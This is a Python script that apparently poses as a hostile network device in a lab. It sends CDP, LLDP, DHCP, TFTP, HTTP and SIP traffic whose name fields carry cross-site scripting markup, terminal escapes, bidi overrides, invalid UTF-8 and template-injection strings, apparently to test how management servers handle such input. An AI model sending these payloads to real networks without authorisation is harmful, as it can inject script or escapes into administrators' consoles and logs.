#!/usr/bin/env python3
"""A device with hostile names, for the node of a lab in which it runs: hostile_device.py INTERFACE DHCP TFTP SIP

It announces itself by CDP and LLDP, and asks the servers at the three addresses. Each text has another kind of attack: markup, a closing quote, a script
URL, terminal escapes of seven and eight bits, bidirectional overrides, octets that are not UTF-8, a very long text."""
import os
import socket
import struct
import sys

TEXTS = [b"<script>owned=1</script>", b"\"><img src=x onerror=owned=1>", b"javascript:owned=1", b"\x1b]0;owned\x07\x1b[2J", b"\xc2\x9b31m",
         "\u202edrow\u2066\u200b".encode(), b"\xff\xfe\xc0\xaf", b"a" * 200, b"${owned=1}{{owned=1}}<!--", b"'-owned=1-'&#x3c;svg onload=owned=1&#x3e;"]
MAC = bytes([2, 0, 0, 0, 0, 0x77])
LIMIT_S = 2


def checksum(octets):
    octets += b"\0" * (len(octets) % 2)
    total = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def cdp(text, other):
    def tlv(kind, value):
        return struct.pack("!HH", kind, 4 + len(value)) + value
    body = tlv(1, text) + tlv(3, other) + tlv(4, struct.pack("!I", 0x10)) + tlv(5, other) + tlv(6, text) + tlv(9, text[:32])
    body = b"\x02\xb4" + struct.pack("!H", checksum(b"\x02\xb4\0\0" + body)) + body
    payload = b"\xaa\xaa\x03\x00\x00\x0c\x20\x00" + body
    return b"\x01\x00\x0c\xcc\xcc\xcc" + MAC + struct.pack("!H", len(payload)) + payload


def lldp(text, other):
    def tlv(kind, value):
        return struct.pack("!H", kind << 9 | len(value)) + value
    body = tlv(1, b"\x07" + text) + tlv(2, b"\x07" + other) + tlv(3, struct.pack("!H", 120)) + tlv(4, text) + tlv(5, other) + tlv(6, text)
    med = b"".join(tlv(127, b"\x00\x12\xbb" + bytes([kind]) + text[:32]) for kind in range(5, 12))
    return b"\x01\x80\xc2\x00\x00\x0e" + MAC + b"\x88\xcc" + body + med + tlv(0, b"")


def announce(interface):
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    out.bind((interface, 0))
    for i, text in enumerate(TEXTS):
        other = TEXTS[(i + 1) % len(TEXTS)]
        out.send(cdp(text, other))
        out.send(lldp(text, other))


def udp(address, port, octets):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.sendto(octets, (address, port))


def dhcp(address):
    for i, text in enumerate(TEXTS):
        options = b"".join(bytes([code, len(text)]) + text for code in (12, 60, 61, 77, 81))
        udp(address, 67, struct.pack("!BBBBIHH16x6s10x192x4s", 1, 1, 6, 1, os.getpid() + i, 0, 0, MAC[:5] + bytes([i]), b"\x63\x82\x53\x63") + b"\x35\x01\x01" + options
            + b"\xff")


def files(address):
    for text in TEXTS:
        udp(address, 69, b"\0\x01" + text + b"\0octet\0")
        with socket.create_connection((address, 6970), LIMIT_S) as stream:
            stream.sendall(b"GET /" + text.replace(b" ", b"%20") + b" HTTP/1.1\r\nHost: " + text + b"\r\nUser-Agent: " + text + b"\r\nConnection: close\r\n\r\n")
            stream.settimeout(LIMIT_S)
            while stream.recv(4096):
                pass


def sip(address):
    for i, text in enumerate(TEXTS):
        head = [b"REGISTER sip:" + address.encode() + b" SIP/2.0", b"Via: SIP/2.0/UDP 192.0.2.1:5060;branch=z9hG4bK%d" % i, b"Max-Forwards: 70",
                b"From: \"" + text + b"\" <sip:66%d@x>;tag=1" % i, b"To: \"" + text + b"\" <sip:66%d@x>" % i, b"Call-ID: " + text + b"%d" % i, b"CSeq: 1 REGISTER",
                b"Contact: <sip:" + text + b"@192.0.2.1>;text=\"" + text + b"\"", b"User-Agent: " + text, b"Expires: 60", b"Content-Length: 0", b"", b""]
        udp(address, 5060, b"\r\n".join(head))


def main():
    interface, dhcp_server, tftp_server, call_manager = sys.argv[1:]
    announce(interface)
    dhcp(dhcp_server)
    files(tftp_server)
    sip(call_manager)


main()
